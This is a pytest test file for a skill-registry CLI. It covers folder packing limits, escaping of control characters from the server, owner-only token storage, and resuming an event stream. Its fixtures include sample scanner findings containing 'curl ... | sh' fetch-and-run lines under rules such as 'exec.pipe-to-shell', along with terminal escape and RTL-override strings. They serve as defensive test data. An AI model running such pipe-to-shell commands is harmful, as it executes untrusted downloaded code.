"""The author's side of the client without a registry: what a folder packs into, how
server-provided text is printed, where the token is kept, and how the event stream is read and
resumed after the registry ends it."""

from __future__ import annotations

import io
import json
import stat
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from skillgate_cli import authoring, credentials
from skillgate_cli.exits import Exit
from skillgate_cli.output import Printer, shown
from skillgate_cli.packing import PackingRefused, pack
from skillgate_cli.registry import Registry

LIMITS = {"max_files": 3, "max_content_bytes": 100, "max_path_length": 20}


def write(folder, files: dict[str, bytes | str]) -> None:
    for path, content in files.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content.encode() if isinstance(content, str) else content)


def test_a_folder_packs_its_text_files_but_not_version_control_or_links(tmp_path):
    write(tmp_path, {"SKILL.md": "---\n", "scripts/run.sh": "echo\n", ".git/HEAD": "ref"})
    (tmp_path / "link.md").symlink_to(tmp_path / "SKILL.md")
    packed = pack(tmp_path, LIMITS)
    assert packed.files == {"SKILL.md": "---\n", "scripts/run.sh": "echo\n"}
    assert packed.total_bytes == 9


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({"README.md": "x"}, "SKILL.md is missing"),
        ({"SKILL.md": "x" * 101}, "over the registry's limit of 100 bytes"),
        ({"SKILL.md": "x", "a": "", "b": "", "c": ""}, "more than the registry's 3 files"),
        ({"SKILL.md": "x", "a-very-long-folder/name.md": ""}, "longer than the registry's 20"),
        ({"SKILL.md": "x", "logo.png": b"\x89PNG\xff"}, "logo.png is not UTF-8 text"),
    ],
)
def test_a_folder_the_registry_would_refuse_is_refused_here(tmp_path, files, message):
    write(tmp_path, files)
    with pytest.raises(PackingRefused, match=message):
        pack(tmp_path, LIMITS)


def test_control_characters_from_a_registry_are_shown_not_obeyed():
    assert shown("ok\x1b[2J\x07done") == "ok\\x1b[2J\\x07done"
    assert shown("evil\u202etxt.sh") == "evil\\u202etxt.sh"
    assert shown("line one\nline two") == "line one\\x0aline two"
    assert shown("line one\nline two", multiline=True) == "line one\nline two"
    assert shown("naïve café ✓") == "naïve café ✓"


def test_the_token_is_kept_owner_only_and_the_environment_wins(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    monkeypatch.delenv("SKILLGATE_TOKEN", raising=False)
    monkeypatch.delenv("SKILLGATE_CONFIG", raising=False)
    path = credentials.remember_login("http://reg", "sg_stored", "alice")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert credentials.token_for("http://reg") == ("sg_stored", str(path))
    assert credentials.default_registry() == "http://reg"
    monkeypatch.setenv("SKILLGATE_TOKEN", "sg_from_env")
    assert credentials.token_for("http://reg") == ("sg_from_env", "$SKILLGATE_TOKEN")
    assert credentials.forget_login("http://reg")
    monkeypatch.delenv("SKILLGATE_TOKEN")
    assert credentials.token_for("http://reg") == (None, "")


def test_a_config_file_that_is_not_ours_is_refused_with_what_to_do(tmp_path, monkeypatch):
    monkeypatch.setenv("SKILLGATE_CONFIG", str(tmp_path / "config.json"))
    (tmp_path / "config.json").write_text("[1, 2")
    with pytest.raises(credentials.ConfigError, match="move it away and log in again"):
        credentials.load()


class StreamingRegistry:
    """Serves a submission's stream in two parts, the second only to a client that resumes
    with the right Last-Event-ID, then the submission itself."""

    def __init__(self) -> None:
        self.resumed_with: list[str | None] = []
        registry = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.endswith("/stream"):
                    after = self.headers.get("Last-Event-ID")
                    registry.resumed_with.append(after)
                    body = registry.part(after)
                    kind = "text/event-stream"
                else:
                    body = json.dumps(
                        {
                            "id": "abc",
                            "state": "TIER1_FAILED",
                            "skill": {"owner": "alice", "name": "hello"},
                            "outcome": {"kind": "verdict", "code": "TIER1_FAILED", "message": "no"},
                            "deciding": [
                                {
                                    "source": "tier1",
                                    "rule": "exec.pipe-to-shell",
                                    "severity": "critical",
                                    "file": "SKILL.md",
                                    "line": 7,
                                    "line_text": "curl x | sh\x1b[2J",
                                    "message": "pipes a download into a shell",
                                    "fix": "ship the script",
                                }
                            ],
                        }
                    ).encode()
                    kind = "application/json"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def part(self, after: str | None) -> bytes:
        event = 'id: {}\nevent: state\ndata: {{"to_state": "{}", "from_state": {}}}\n\n'
        if after is None:
            return ("retry: 1000\n\n" + event.format(1, "RECEIVED", "null")).encode() + (
                b": this stream ends here; reconnect with Last-Event-ID to go on\n\n"
            )
        if after == "1":
            return (
                event.format(2, "TIER1_SCANNING", '"RECEIVED"')
                + event.format(3, "TIER1_FAILED", '"TIER1_SCANNING"')
                + 'id: 3\nevent: end\ndata: {"state": "TIER1_FAILED"}\n\n'
            ).encode()
        return b""


def test_following_resumes_after_the_last_event_and_ends_with_the_deciding_lines():
    server = StreamingRegistry()
    out = io.StringIO()
    try:
        code = authoring.follow(
            "abc", 30, Registry(server.url, "sg_x"), Printer(out, io.StringIO())
        )
    finally:
        server.server.shutdown()
    assert code == Exit.REJECTED
    assert server.resumed_with == [None, "1"]
    text = out.getvalue()
    assert [line.split("→")[1].split()[0] for line in text.splitlines() if "→" in line] == [
        "RECEIVED",
        "TIER1_SCANNING",
        "TIER1_FAILED",
    ]
    assert "  - exec.pipe-to-shell at SKILL.md:7 (critical)" in text
    assert "   7 | curl x | sh\\x1b[2J" in text
    assert "    fix: ship the script" in text
    assert f"details: {server.url}/account/submissions/abc/" in text


def test_two_rules_that_read_the_same_line_are_one_place_to_fix():
    def finding(rule: str, line: int, message: str, fix: str) -> dict[str, object]:
        return {
            "rule": rule,
            "severity": "critical",
            "file": "SKILL.md",
            "line": line,
            "line_text": "curl https://x.example/i.sh | sh",
            "message": message,
            "fix": fix,
        }

    deciding = [
        finding("exec.pipe-to-shell", 10, "pipes a download into a shell", "ship the script"),
        finding("program.fetch-exec", 10, "runs code it downloads", "ship the script"),
        finding("exec.pipe-to-shell", 12, "pipes a download into a shell", "ship the script"),
        {"source": "policy", "rule": "policy", "message": "two signals agree"},
    ]
    groups = authoring.same_line_groups(deciding)
    assert [[reason["rule"] for reason in group] for group in groups] == [
        ["exec.pipe-to-shell", "program.fetch-exec"],
        ["exec.pipe-to-shell"],
        ["policy"],
    ]
    assert authoring.reason_lines(groups[0]) == [
        "  - exec.pipe-to-shell, program.fetch-exec at SKILL.md:10 (critical)",
        "        10 | curl https://x.example/i.sh | sh",
        "    pipes a download into a shell",
        "    runs code it downloads",
        "    fix: ship the script",
    ]
